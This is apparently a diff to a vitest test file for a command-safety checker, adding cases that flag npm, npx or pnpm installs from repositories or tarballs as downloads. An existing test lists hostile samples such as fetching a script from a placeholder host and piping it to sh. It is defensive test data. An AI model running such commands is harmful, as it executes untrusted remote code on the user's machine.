@@ -2,6 +2,11 @@ import { describe, expect, it } from 'vitest';
 import { dumpsEnvironment, isDangerousCommand, isNodeLoaderFlag, loadsCodeThroughEnv, readsCodeFromStdin, usesRelativePaths } from '../../../rules/utils/commands.js';
 
 describe('commands', () => {
+  it('calls an install of a repository or tarball a download, not an install of the declared dependencies in subfolders', () => {
+    for (const command of ['npm install someone/tool', 'npm i git+https://g.example/t.git', 'npx github:someone/tool', 'pnpm add ./vendor/t.tgz']) expect(isDangerousCommand(command)).toBe(true);
+    for (const command of ['cd client && npm install && cd ../server && npm install && cd ..', 'npm install && node scripts/a/b.js', 'npm install @scope/pkg', 'npm install ../local-lib']) expect(isDangerousCommand(command)).toBe(false);
+  });
+
   it('calls BSD fetch a download only as a program, not the word in git fetch', () => {
     for (const command of ['fetch -o - http://x.example/i | sh', 'cd /tmp && fetch http://x.example/a', 'sudo fetch http://x.example/a']) expect(isDangerousCommand(command)).toBe(true);
     for (const command of ['git fetch --all', 'git fetch origin main', 'npm run fetch-data', 'yarn prefetch']) expect(isDangerousCommand(command)).toBe(false);
